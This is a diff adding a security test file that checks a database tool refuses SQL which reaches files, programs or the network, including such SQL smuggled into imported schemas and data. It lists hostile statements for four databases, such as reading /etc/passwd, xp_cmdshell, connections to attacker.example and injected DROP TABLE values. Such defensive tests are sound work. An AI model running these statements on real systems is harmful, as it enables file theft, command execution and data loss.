@@ -1,0 +1,174 @@
+/** What reaches files, programs and the network from SQL is refused, also by way of an import (security.md 5). */
+import { describe, expect, test } from 'vitest';
+import { overDatabases } from '../databases/kit/bench.ts';
+import { numbered, optional } from '../databases/kit/tables.ts';
+import { asking, fileBody, jsonBody } from './asking.ts';
+import type { Ask } from './asking.ts';
+
+/** By database: statements that are refused whatever the operator allows. */
+const reaching: Readonly<Record<string, readonly string[]>> = {
+  sqlite: [
+    "ATTACH 'other.db' AS other",
+    "ATTACH DATABASE ':memory:' AS m",
+    'DETACH main',
+    "SELECT load_extension('x')",
+    "SELECT readfile('/etc/passwd')",
+    "SELECT writefile('x', 'y')",
+    "SELECT edit('x')",
+    "SELECT * FROM fsdir('/')",
+    "VACUUM INTO 'copy.db'",
+    "WITH a AS (SELECT load_extension('x')) SELECT * FROM a",
+    "INSERT INTO items (name) VALUES (readfile('/etc/passwd'))",
+    "CREATE VIEW v AS SELECT load_extension('x')",
+    "EXPLAIN SELECT load_extension('x')",
+  ],
+  postgres: [
+    "COPY items FROM PROGRAM 'id'",
+    "COPY items TO PROGRAM 'cat'",
+    "COPY items TO '/tmp/x'",
+    "COPY items FROM '/etc/passwd'",
+    "SELECT pg_read_file('/etc/passwd')",
+    "SELECT pg_read_binary_file('/etc/passwd')",
+    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
+    `SELECT "pg_read_file"('/etc/passwd')`,
+    "SELECT pg_ls_dir('/')",
+    "SELECT pg_stat_file('/')",
+    "SELECT lo_import('/etc/passwd')",
+    "SELECT lo_export(1, '/tmp/x')",
+    "SELECT dblink('host=attacker.example', 'SELECT 1')",
+    "SELECT dblink_connect('host=attacker.example')",
+    "SELECT * FROM dblink('host=attacker.example', 'SELECT 1') AS t (a int)",
+    "SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '')",
+    "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')",
+    "WITH a AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM a",
+    'CREATE SERVER s FOREIGN DATA WRAPPER file_fdw',
+    "CREATE SUBSCRIPTION s CONNECTION 'host=attacker.example' PUBLICATION p",
+    "LOAD '/tmp/evil.so'",
+    'DO $$ BEGIN PERFORM 1; END $$',
+    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'",
+    "ALTER SYSTEM SET archive_command = 'id'",
+  ],
+  mysql: [
+    "LOAD DATA INFILE '/etc/passwd' INTO TABLE items",
+    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE items",
+    "LOAD XML INFILE '/etc/passwd' INTO TABLE items",
+    "SELECT * FROM items INTO OUTFILE '/tmp/x'",
+    "SELECT name INTO DUMPFILE '/tmp/x' FROM items",
+    "SELECT load_file('/etc/passwd')",
+    "SELECT `load_file`('/etc/passwd')",
+    "SELECT /*!50000 load_file('/etc/passwd') */",
+    "INSERT INTO items (name) VALUES (load_file('/etc/passwd'))",
+    "CREATE VIEW v AS SELECT load_file('/etc/passwd')",
+    "CREATE TABLE t (a INT) SELECT load_file('/etc/passwd') AS x",
+    "CREATE FUNCTION f RETURNS STRING SONAME 'evil.so'",
+    "INSTALL PLUGIN p SONAME 'evil.so'",
+    "SET GLOBAL general_log_file = '/tmp/x'",
+  ],
+  sqlserver: [
+    "EXEC xp_cmdshell 'id'",
+    "EXEC master..xp_cmdshell 'id'",
+    "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=attacker', 'SELECT 1')",
+    "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=attacker').a.b.c",
+    "SELECT * FROM OPENQUERY(LNK, 'SELECT 1')",
+    "BULK INSERT items FROM '/etc/passwd'",
+    "BACKUP DATABASE x TO DISK = '/tmp/x'",
+    "EXEC sp_OACreate 'wscript.shell', 0",
+    "CREATE ASSEMBLY a FROM '/tmp/evil.dll'",
+  ],
+};
+
+/** Words of a file where a type, a default, a check or a view is expected. */
+const smuggled: Readonly<Record<string, readonly string[]>> = {
+  sqlite: ["load_extension('x')", "readfile('/etc/passwd')"],
+  postgres: ["pg_read_file('/etc/passwd')", "lo_import('/etc/passwd')::text"],
+  mysql: ["load_file('/etc/passwd')"],
+  sqlserver: [],
+};
+
+overDatabases('files and network', (bench) => {
+  const { name: dialect } = bench.subject;
+  let ask: Ask;
+  const columns = [{ name: 'id', type: 'INTEGER' }];
+  const schemaFile = (tables: readonly object[], more: object = {}): RequestInit =>
+    fileBody('schema.json', JSON.stringify({ driver: dialect, tables, ...more }));
+
+  /** Refused with a reason that names no content of a file, and nothing was made. */
+  async function expectRefused(path: string, init: RequestInit): Promise<void> {
+    const before = await bench.native.fingerprint();
+    const told = await ask(path, init);
+    expect([400, 403, 422], told.text).toContain(told.status);
+    expect(told.text).not.toContain('root:');
+    expect(await bench.native.fingerprint()).toBe(before);
+  }
+
+  bench.before(async () => {
+    await bench.make([numbered('users', [optional('name', { kind: 'text' })])]);
+    await bench.make([numbered('items', [optional('name', { kind: 'text' })])]);
+    ask = asking(await bench.open({ allowDdl: true }));
+  });
+
+  test.each(reaching[dialect] ?? [])('raw SQL: %s', async (query) => {
+    await expectRefused('/sql', jsonBody({ query }));
+  });
+
+  describe.each(smuggled[dialect] ?? [])('%s', (call) => {
+    test.each([
+      ['a default', { columns: [{ ...columns[0], default_value: `(${call})` }] }],
+      ['a type', { columns: [{ name: 'id', type: `INTEGER DEFAULT (${call})` }] }],
+      ['a table by a type', { columns: [{ name: 'id', type: `int) SELECT ${call} AS x --` }] }],
+      [
+        'a generated column',
+        {
+          columns: [
+            ...columns,
+            { name: 'g', type: 'TEXT', generated_expression: call, is_stored: true },
+          ],
+        },
+      ],
+      ['a check', { columns, checks: [{ expression: `${call} IS NULL` }] }],
+      ['an index', { columns, indexes: [{ name: 'i', parts: [{ expression: call }] }] }],
+    ])('as %s of an imported schema', async (what, table) => {
+      const before = await bench.native.fingerprint();
+      const told = await ask(
+        '/import/schema',
+        schemaFile([{ name: `${what} ${call.length}`, ...table }]),
+      );
+      expect([200, 422], told.text).toContain(told.status);
+      if (told.status === 422) expect(await bench.native.fingerprint()).toBe(before);
+      // What is no type of the database may have become a text.
+      else expect(JSON.stringify(told.json['statements'])).not.toContain(call.split('(')[0]);
+    });
+
+    test('as a view of an imported schema', async () => {
+      const definition = `SELECT ${call} AS x`;
+      const view = { name: 'v', kind: 'view', columns: [{ name: 'x', type: 'TEXT' }], definition };
+      await expectRefused('/import/schema', schemaFile([], { views: [view] }));
+      await expectRefused('/import/schema', fileBody('v.sql', `CREATE VIEW v AS ${definition};`));
+    });
+
+    test('as a default of a Go model', async () => {
+      const tag = `gorm:"default:(${call.replaceAll(':', '\\\\:')})"`;
+      const text = `package a\n\ntype Smuggled struct {\n\tID uint\n\tName string \`${tag}\`\n}\n`;
+      await expectRefused('/import/models', fileBody('a.go', text));
+    });
+
+    test('as a value of an imported INSERT', async () => {
+      await expectRefused(
+        '/import/data',
+        fileBody('a.sql', `INSERT INTO items (name) VALUES (${call});`),
+      );
+    });
+  });
+
+  test.each(['INTEGER); DROP TABLE items; --', 'INTEGER /*', "INTEGER DEFAULT '"])(
+    'a type that would end its statement makes no other: %s',
+    async (type) => {
+      const [items] = (await ask('/tables/items/rows')).text;
+      const table = { name: `ended by ${type.length}`, columns: [{ name: 'id', type }] };
+      const told = await ask('/import/schema', schemaFile([table]));
+      if (told.status === 200)
+        expect(JSON.stringify(told.json['statements'])).not.toContain('DROP');
+      expect((await ask('/tables/items/rows')).text[0]).toBe(items);
+    },
+  );
+});
